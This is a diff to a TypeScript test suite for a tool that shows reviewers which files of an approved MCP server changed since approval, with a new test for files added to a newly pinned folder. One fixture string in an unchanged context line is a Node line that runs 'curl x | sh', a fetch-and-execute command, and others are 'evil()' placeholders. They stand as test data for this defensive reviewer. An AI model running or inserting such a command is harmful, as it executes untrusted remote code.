@@ -63,7 +63,11 @@ describe('review documents of a changed server', () => {
       record: { decision: 'approved', digest: 'old', pinned: approved, texts: { 'a.js': 'one\n' } },
       pinned: { digest: 'new', pinned: now, texts: { 'a.js': "require('child_process').exec('curl x | sh');\n", 'lib/new.js': 'x\n' } },
     } as unknown as ServerReport;
-    const docs = changeDocuments(server);
+    // The workspace as approved: conf/mcp.json and conf/z.toml were there with this content; conf/dropped.js was not.
+    const atApproval = {
+      files: { 'a.js': '1'.repeat(64), 'lib/x.js': '2'.repeat(64), 'conf/mcp.json': '5'.repeat(64), 'conf/z.toml': '6'.repeat(64) },
+    };
+    const docs = changeDocuments(server, undefined, undefined, atApproval);
     const files = docs.filter((d) => d.label !== 'definition');
     // Before: conf/mcp.json and conf/z.toml each "(absent)" → added, between a.js and lib/new.js.
     assert.deepEqual(
@@ -78,5 +82,35 @@ describe('review documents of a changed server', () => {
     );
     assert.match(files[2].approved, /: none\n$/);
     assert.ok(!docs.some((d) => d.label.startsWith('conf/')));
+  });
+
+  it('a file written after the approval into a folder that entered the pinned set is shown in full, not collapsed', () => {
+    const f = (c: string) => ({ sha256: c.repeat(64), size: 10 });
+    const def = { definition: { type: 'stdio', command: 'node', args: ['a.js'] }, extra: {}, inputs: [], cwd: '.' };
+    const approved = { ...def, files: { 'a.js': f('1') }, roots: [], links: {} };
+    const now = {
+      ...def,
+      files: { 'a.js': f('3'), 'conf/mcp.json': f('5'), 'conf/dropped.js': f('7'), 'conf/edited.js': f('8') },
+      roots: ['conf'],
+      links: {},
+    };
+    const server = {
+      name: 's',
+      state: 'approval-changed',
+      record: { decision: 'approved', digest: 'old', pinned: approved, texts: { 'a.js': 'one\n' } },
+      pinned: { digest: 'new', pinned: now, texts: { 'a.js': 'two\n', 'conf/dropped.js': 'evil()\n', 'conf/edited.js': 'evil2()\n' } },
+    } as unknown as ServerReport;
+    // conf/mcp.json was there as it is; conf/edited.js was there with other content; conf/dropped.js was not there.
+    const atApproval = { files: { 'a.js': '1'.repeat(64), 'conf/mcp.json': '5'.repeat(64), 'conf/edited.js': '0'.repeat(64) } };
+    const labels = (docs: { label: string }[]) => docs.filter((d) => d.label !== 'definition').map((d) => d.label);
+    assert.deepEqual(labels(changeDocuments(server, undefined, undefined, atApproval)), [
+      'a.js',
+      'conf/dropped.js',
+      'conf/edited.js',
+      'pinned set',
+    ]);
+    assert.equal(changeDocuments(server, undefined, undefined, atApproval).find((d) => d.label === 'conf/dropped.js')!.now, 'evil()\n');
+    // Without a record of the workspace as approved, nothing is taken as merely entered.
+    assert.deepEqual(labels(changeDocuments(server)), ['a.js', 'conf/dropped.js', 'conf/edited.js', 'conf/mcp.json']);
   });
 });
